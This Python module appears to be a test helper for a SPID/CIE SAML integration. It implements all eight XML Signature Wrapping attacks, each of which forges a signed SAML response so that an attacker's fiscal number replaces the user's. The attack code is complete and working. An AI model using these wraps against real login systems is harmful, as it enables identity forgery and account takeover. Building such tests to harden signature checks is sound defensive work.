"""The eight ways of wrapping a true signature around a lie (Somorovsky and others, 2012), namespaces kept.

Each takes a signed answer and returns one in which somebody else's name stands where a careless reader looks, while
the signed element is still somewhere in the document.
"""

from collections.abc import Callable
from copy import deepcopy
from typing import Any

from lxml import etree

from integrations.spid_cie.saml.names import DS, NAMES, saml, samlp

SIGNATURE = f"{{{DS}}}Signature"
THIEF = "TINIT-RSSMRA80A01F205X"
type Wrap = Callable[[Any], Any]


def wrapped(message: bytes, wrap: Wrap) -> bytes:
    """A message after the attack."""
    return bytes(etree.tostring(wrap(etree.fromstring(message))))


def _evil(element: Any, *, signed: bool) -> Any:
    """A copy that says what the thief wants, under another ID; with or without the copied signature."""
    copy = deepcopy(element)
    copy.set("ID", f"_evil{element.get('ID')}")
    for value in copy.xpath(".//saml:Attribute[@Name='fiscalNumber']/saml:AttributeValue", namespaces=NAMES):
        value.text = THIEF
    if not signed and copy.find(SIGNATURE) is not None:
        copy.remove(copy.find(SIGNATURE))
    return copy


def _unsigned(element: Any) -> Any:
    """The original without its own signature, which an enveloped signature does not cover."""
    copy = deepcopy(element)
    if copy.find(SIGNATURE) is not None:
        copy.remove(copy.find(SIGNATURE))
    return copy


def _signature_of(element: Any) -> Any:
    """The element's signature, or the first one there is, or an empty one."""
    found = element.find(SIGNATURE)
    inner = found if found is not None else next(element.iter(SIGNATURE), None)
    return deepcopy(inner) if inner is not None else etree.Element(SIGNATURE)


def _after_issuer(parent: Any, child: Any) -> None:
    parent.find(saml("Issuer")).addnext(child)


def original_response_in_the_signature(root: Any) -> Any:
    evil, signature = _evil(root, signed=False), _signature_of(root)
    signature.append(_unsigned(root))
    _after_issuer(evil, signature)
    return evil


def original_response_beside_the_signature(root: Any) -> Any:
    evil = _evil(root, signed=False)
    _after_issuer(evil, _signature_of(root))
    _after_issuer(evil, _unsigned(root))
    return evil


def lie_before_the_original(root: Any) -> Any:
    original = root.find(saml("Assertion"))
    original.addprevious(_evil(original, signed=False))
    return root


def original_in_the_lie(root: Any) -> Any:
    original = root.find(saml("Assertion"))
    evil = _evil(original, signed=False)
    original.addprevious(evil)
    evil.append(original)
    return root


def original_behind_the_signed_lie(root: Any) -> Any:
    original = root.find(saml("Assertion"))
    original.addprevious(_evil(original, signed=True))
    root.remove(original)
    root.append(_unsigned(original))
    return root


def original_in_the_signature_of_the_lie(root: Any) -> Any:
    original = root.find(saml("Assertion"))
    evil = _evil(original, signed=False)
    signature = _signature_of(original)
    signature.append(_unsigned(original))
    _after_issuer(evil, signature)
    root.replace(original, evil)
    return root


def lie_in_the_extensions(root: Any) -> Any:
    original = root.find(saml("Assertion"))
    extensions = etree.Element(samlp("Extensions"))
    evil = _evil(original, signed=False)
    evil.set("ID", original.get("ID"))
    extensions.append(evil)
    root.find(samlp("Status")).addprevious(extensions)
    return root


def original_in_an_object(root: Any) -> Any:
    original = root.find(saml("Assertion"))
    evil = _evil(original, signed=False)
    signature = _signature_of(original)
    etree.SubElement(signature, f"{{{DS}}}Object").append(_unsigned(original))
    _after_issuer(evil, signature)
    root.replace(original, evil)
    return root


WRAPS: dict[str, Wrap] = {
    "XSW1": original_response_in_the_signature,
    "XSW2": original_response_beside_the_signature,
    "XSW3": lie_before_the_original,
    "XSW4": original_in_the_lie,
    "XSW5": original_behind_the_signed_lie,
    "XSW6": original_in_the_signature_of_the_lie,
    "XSW7": lie_in_the_extensions,
    "XSW8": original_in_an_object,
}
